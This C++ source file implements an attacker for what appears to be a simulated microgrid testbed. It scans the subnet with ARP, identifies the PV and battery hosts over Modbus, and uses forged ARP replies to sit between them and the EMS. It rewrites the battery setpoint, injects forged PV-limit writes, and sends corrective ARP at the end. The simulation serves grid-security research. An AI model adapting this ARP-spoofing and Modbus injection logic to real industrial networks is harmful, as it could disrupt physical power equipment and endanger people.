#include "cpt/attack.h"

#include <algorithm>
#include <cmath>
#include <stdexcept>

namespace cpt::attack {

namespace {

constexpr std::uint16_t kProbePort = 50000;
constexpr std::int64_t kProbeTimeoutSteps = 3;
constexpr std::int64_t kScanWaitSteps = 3;

std::int64_t to_step(double t_s, const cosim::SimClock& clock)
{
  return std::llround((t_s - clock.epoch_s) / clock.step_s);
}

bool rewrite_registers(modbus::Adu& adu, const ManipulationRule& rule)
{
  auto& d = adu.data;
  if (adu.function == modbus::fc::write_single && d.size() == 4) {
    const std::uint16_t address = static_cast<std::uint16_t>(d[0] << 8 | d[1]);
    if (address != rule.setpoint_register) {
      return false;
    }
    d[2] = static_cast<std::uint8_t>(rule.forced_value >> 8);
    d[3] = static_cast<std::uint8_t>(rule.forced_value & 0xff);
    return true;
  }
  if (adu.function == modbus::fc::write_multiple && d.size() >= 5) {
    const std::uint16_t address = static_cast<std::uint16_t>(d[0] << 8 | d[1]);
    const std::uint16_t quantity = static_cast<std::uint16_t>(d[2] << 8 | d[3]);
    if (d.size() != 5 + static_cast<std::size_t>(quantity) * 2 || rule.setpoint_register < address ||
        rule.setpoint_register >= static_cast<std::uint32_t>(address) + quantity) {
      return false;
    }
    const std::size_t at = 5 + static_cast<std::size_t>(rule.setpoint_register - address) * 2;
    d[at] = static_cast<std::uint8_t>(rule.forced_value >> 8);
    d[at + 1] = static_cast<std::uint8_t>(rule.forced_value & 0xff);
    return true;
  }
  return false;
}

}  // namespace

void AttackPlan::validate(double bss_rated_kw) const
{
  if (!(start_s < end_s)) {
    throw std::invalid_argument("attack end must be after its start");
  }
  if (!(pv_limit_kw >= 0.0) || pv_limit_kw > 327.66) {
    throw std::invalid_argument("attack PV limit must be within 0..327.66 kW");
  }
  if (!(std::abs(bss_charge_kw) <= bss_rated_kw)) {
    throw std::invalid_argument("attack battery command exceeds the battery rating");
  }
  if (!(repoison_period_s > 0.0)) {
    throw std::invalid_argument("repoison period must be > 0");
  }
  if (!(recon_lead_s >= 0.0)) {
    throw std::invalid_argument("recon lead must be >= 0");
  }
}

const char* to_string(Role role)
{
  switch (role) {
    case Role::unknown: return "unknown";
    case Role::ems: return "EMS";
    case Role::pv: return "PV";
    case Role::bss: return "BSS";
    case Role::load_bank: return "LoadBank";
    case Role::meter: return "Meter";
  }
  return "unknown";
}

Role role_from_device_type(std::uint16_t type)
{
  switch (type) {
    case static_cast<std::uint16_t>(modbus::DeviceType::pv): return Role::pv;
    case static_cast<std::uint16_t>(modbus::DeviceType::bss): return Role::bss;
    case static_cast<std::uint16_t>(modbus::DeviceType::load_bank): return Role::load_bank;
    case static_cast<std::uint16_t>(modbus::DeviceType::meter): return Role::meter;
    default: return Role::unknown;
  }
}

const char* to_string(Stage stage)
{
  switch (stage) {
    case Stage::idle: return "idle";
    case Stage::scanning: return "scanning";
    case Stage::identifying: return "identifying";
    case Stage::prestage: return "prestage";
    case Stage::mitm: return "mitm";
    case Stage::grace: return "grace";
    case Stage::done: return "done";
  }
  return "?";
}

bool manipulate(net::EthernetFrame& frame, const ManipulationRule& rule)
{
  if (frame.ethertype != net::kEtherTypeIpv4) {
    return false;
  }
  try {
    auto seg = net::decode_ipv4_tcp(frame.payload);
    if (seg.dst_ip != rule.bss_ip || seg.dst_port != modbus::kTcpPort) {
      return false;
    }
    auto adu = modbus::decode(seg.payload);
    if (!rewrite_registers(adu, rule)) {
      return false;
    }
    seg.payload = modbus::encode(adu);
    frame.payload = net::encode(seg);
    return true;
  } catch (const net::FrameError&) {
    return false;
  } catch (const modbus::FrameError&) {
    return false;
  }
}

Attacker::Attacker(net::Host host, AttackPlan plan, cosim::SimClock clock)
    : host_(std::move(host)),
      plan_(plan),
      clock_(clock),
      start_step_(to_step(plan.start_s, clock)),
      end_step_(to_step(plan.end_s, clock)),
      scan_step_(std::max<std::int64_t>(0, start_step_ - std::llround(plan.recon_lead_s / clock.step_s))),
      repoison_steps_(std::max<std::int64_t>(1, std::llround(plan.repoison_period_s / clock.step_s))),
      probe_(kProbePort, kProbeTimeoutSteps)
{
}

cosim::SimulatorHandle Attacker::handle() const
{
  return {host_.id(), {net::rx_signal(host_.id())}, {net::tx_signal(host_.id())}};
}

std::optional<net::Ipv4Addr> Attacker::ip_of(Role role) const
{
  for (const auto& [ip, r] : roles_) {
    if (r == role) {
      return ip;
    }
  }
  return std::nullopt;
}

std::optional<net::MacAddr> Attacker::true_mac(net::Ipv4Addr ip) const
{
  auto it = responders_.find(ip);
  if (it == responders_.end()) {
    return std::nullopt;
  }
  return it->second;
}

void Attacker::enter(Stage stage, cosim::StepContext& ctx, const std::string& why)
{
  stage_ = stage;
  stage_since_ = ctx.step();
  ctx.emit(std::string("stage ") + to_string(stage) + ": " + why);
}

void Attacker::begin_scan()
{
  for (auto ip : host_.subnet().hosts()) {
    if (ip == host_.ip()) {
      continue;
    }
    host_.send_arp(net::ArpMessage{net::ArpOp::request, host_.mac(), host_.ip(), net::MacAddr{}, ip},
                   net::MacAddr::broadcast());
    ++stats_.scan_requests;
  }
}

void Attacker::finish_scan(cosim::StepContext& ctx)
{
  scan_.clear();
  for (const auto& [ip, mac] : responders_) {
    scan_.push_back({ip, mac});
    probe_.send(host_, ip, modbus::read_holding_request(0, 1, modbus::reg::device_type, 1),
                ctx.step(), ip.str());
  }
  enter(Stage::identifying, ctx, std::to_string(scan_.size()) + " hosts answered the scan");
}

void Attacker::finish_identification(cosim::StepContext& ctx)
{
  for (const auto& e : scan_) {
    roles_.try_emplace(e.ip, Role::unknown);
  }
  const auto pv = ip_of(Role::pv);
  const auto bss = ip_of(Role::bss);
  std::string summary;
  for (const auto& [ip, role] : roles_) {
    summary += (summary.empty() ? "" : ", ") + ip.str() + "=" + to_string(role);
  }
  if (!pv || !bss) {
    enter(Stage::done, ctx, "no PV/BSS pair found (" + summary + ")");
    return;
  }
  // Half MITM: whoever the inverters answer is the EMS.
  for (const auto& [ip, role] : roles_) {
    if (role == Role::unknown) {
      poison(*pv, ip);
      poison(*bss, ip);
    }
  }
  last_poison_ = ctx.step();
  enter(Stage::prestage, ctx, summary);
}

void Attacker::poison(net::Ipv4Addr victim, net::Ipv4Addr claimed)
{
  const auto mac = true_mac(victim);
  if (!mac) {
    return;
  }
  host_.send_arp(net::ArpMessage{net::ArpOp::reply, host_.mac(), claimed, *mac, victim}, *mac);
  ++stats_.forged_arp;
}

void Attacker::repair(net::Ipv4Addr victim, net::Ipv4Addr claimed)
{
  const auto mac = true_mac(victim);
  const auto owner = true_mac(claimed);
  if (!mac || !owner) {
    return;
  }
  host_.send_arp(net::ArpMessage{net::ArpOp::reply, *owner, claimed, *mac, victim}, *mac);
  ++stats_.corrective_arp;
}

void Attacker::poison_all()
{
  const auto ems = ip_of(Role::ems);
  for (auto role : {Role::pv, Role::bss}) {
    const auto dev = ip_of(role);
    if (ems && dev) {
      poison(*ems, *dev);
      poison(*dev, *ems);
    }
  }
}

void Attacker::repair_all()
{
  for (auto role : {Role::pv, Role::bss}) {
    const auto dev = ip_of(role);
    if (!dev) {
      continue;
    }
    for (const auto& [ip, r] : roles_) {
      if (r == Role::ems || r == Role::unknown) {
        repair(ip, *dev);
        repair(*dev, ip);
      }
    }
  }
}

void Attacker::inject(net::Ipv4Addr target, std::uint16_t address, std::uint16_t value)
{
  const auto ems = ip_of(Role::ems);
  const auto mac = true_mac(target);
  if (!ems || !mac) {
    return;
  }
  net::TcpSegment seg;
  seg.src_ip = *ems;
  seg.dst_ip = target;
  seg.src_port = kInjectPort;
  seg.dst_port = modbus::kTcpPort;
  seg.seq = inject_seq_;
  seg.ip_id = inject_ip_id_++;
  seg.payload = modbus::encode(modbus::write_single_request(inject_ip_id_, 1, address, value));
  inject_seq_ += static_cast<std::uint32_t>(seg.payload.size());
  host_.send_frame(net::ipv4_frame(host_.mac(), *mac, seg));
}

void Attacker::handle_transit(net::EthernetFrame frame, cosim::StepContext& ctx)
{
  const auto step = ctx.step();
  net::TcpSegment seg;
  try {
    seg = net::decode_ipv4_tcp(frame.payload);
  } catch (const net::FrameError&) {
    ++stats_.dropped;
    return;
  }

  if (stage_ == Stage::prestage && seg.src_port == modbus::kTcpPort) {
    auto src = roles_.find(seg.src_ip);
    auto dst = roles_.find(seg.dst_ip);
    if (src != roles_.end() && (src->second == Role::pv || src->second == Role::bss) &&
        dst != roles_.end() && dst->second == Role::unknown) {
      dst->second = Role::ems;
      poison_all();
      last_poison_ = step;
      enter(Stage::mitm, ctx, seg.dst_ip.str() + " polls the inverters: EMS");
    }
  }

  const auto ems = ip_of(Role::ems);
  const auto pv = ip_of(Role::pv);
  const auto bss = ip_of(Role::bss);
  if (ems && seg.dst_ip == *ems && seg.dst_port == kInjectPort) {
    ++stats_.consumed;  // answer to our own write
    return;
  }

  const bool lands_in_window = step + 1 >= start_step_ && step + 1 < end_step_;
  if (stage_ == Stage::mitm && lands_in_window && bss && seg.dst_ip == *bss) {
    ManipulationRule rule{*bss, modbus::reg::bss_setpoint, modbus::encode_fp(plan_.bss_charge_kw)};
    if (manipulate(frame, rule)) {
      ++stats_.rewritten;
    }
  }

  if (pv && seg.dst_ip == *pv && seg.dst_port == modbus::kTcpPort) {
    try {
      const auto adu = modbus::decode(seg.payload);
      if (adu.function == modbus::fc::read_holding && adu.data.size() == 4) {
        pv_reads_[{seg.src_ip, adu.header.transaction_id}] =
            Tracked{static_cast<std::uint16_t>(adu.data[0] << 8 | adu.data[1]),
                    static_cast<std::uint16_t>(adu.data[2] << 8 | adu.data[3])};
      }
    } catch (const modbus::FrameError&) {
    }
  } else if (pv && seg.src_ip == *pv && seg.src_port == modbus::kTcpPort) {
    try {
      const auto adu = modbus::decode(seg.payload);
      auto it = pv_reads_.find({seg.dst_ip, adu.header.transaction_id});
      if (it != pv_reads_.end()) {
        const auto req = it->second;
        pv_reads_.erase(it);
        const auto values = modbus::read_response_values(adu);
        const bool covers =
            req.address <= modbus::reg::pv_limit_readback &&
            static_cast<std::size_t>(modbus::reg::pv_limit_readback - req.address) < values.size();
        const std::size_t idx = covers ? modbus::reg::pv_limit_readback - req.address : 0;
        // The response was served one step ago and reflects the step before.
        const bool after_injection = step >= start_step_ + 2 && step + 1 < end_step_;
        const auto limit = modbus::encode_fp(plan_.pv_limit_kw);
        if (stage_ == Stage::mitm && covers && after_injection && values[idx] != limit) {
          inject(*pv, modbus::reg::pv_limit, limit);
          ++stats_.reinjected;
          ctx.emit("PV limit cleared, re-injecting");
        }
      }
    } catch (const std::exception&) {
    }
  }

  const auto mac = true_mac(seg.dst_ip);
  if (!mac) {
    ++stats_.dropped;
    return;
  }
  frame.src = host_.mac();
  frame.dst = *mac;
  host_.send_frame(frame);
  ++stats_.forwarded;
}

void Attacker::step(cosim::StepContext& ctx)
{
  const auto k = ctx.step();
  auto rx = host_.receive(ctx.input_frames(net::rx_signal(host_.id())), k);

  if (stage_ == Stage::scanning) {
    for (const auto& msg : rx.arp) {
      if (msg.op == net::ArpOp::reply && msg.target_ip == host_.ip() && msg.sender_ip != host_.ip()) {
        responders_[msg.sender_ip] = msg.sender_mac;
      }
    }
  }
  if (stage_ == Stage::identifying) {
    for (const auto& done : probe_.accept(rx.segments)) {
      try {
        const auto values = modbus::read_response_values(done.response);
        if (!values.empty()) {
          roles_[done.request.server] = role_from_device_type(values[0]);
        }
      } catch (const std::exception&) {
        roles_[done.request.server] = Role::unknown;
      }
    }
    probe_.expire(k);
  }
  if (stage_ == Stage::prestage || stage_ == Stage::mitm || stage_ == Stage::grace) {
    for (auto& frame : rx.transit) {
      handle_transit(std::move(frame), ctx);
    }
  }

  switch (stage_) {
    case Stage::idle:
      if (k >= scan_step_) {
        begin_scan();
        enter(Stage::scanning, ctx, "ARP sweep of " + host_.subnet().str());
      }
      break;
    case Stage::scanning:
      if (k >= stage_since_ + kScanWaitSteps) {
        finish_scan(ctx);
      }
      break;
    case Stage::identifying:
      if (k >= stage_since_ + kProbeTimeoutSteps || probe_.outstanding() == 0) {
        finish_identification(ctx);
      }
      break;
    case Stage::prestage:
      if (k >= end_step_ - 1) {
        repair_all();
        enter(Stage::done, ctx, "EMS never observed");
      }
      break;
    case Stage::mitm:
      if (k >= end_step_ - 1) {
        repair_all();
        enter(Stage::grace, ctx, "stop: corrective ARP sent");
        break;
      }
      if (k - last_poison_ >= repoison_steps_) {
        poison_all();
        last_poison_ = k;
      }
      if (!injected_ && k >= start_step_ - 1) {
        injected_ = true;
        if (auto bss = ip_of(Role::bss)) {
          inject(*bss, modbus::reg::bss_setpoint, modbus::encode_fp(plan_.bss_charge_kw));
          ++stats_.injected;
        }
        if (auto pv = ip_of(Role::pv)) {
          inject(*pv, modbus::reg::pv_limit, modbus::encode_fp(plan_.pv_limit_kw));
          ++stats_.injected;
          stats_.pv_limit_landing_step = k + 1;
        }
        ctx.emit("injected battery and PV writes");
      }
      break;
    case Stage::grace:
      if (k >= stage_since_ + repoison_steps_) {
        enter(Stage::done, ctx, "stopped forwarding");
      }
      break;
    case Stage::done:
      break;
  }

  ctx.publish(net::tx_signal(host_.id()), host_.take_outbox());
}

}  // namespace cpt::attack
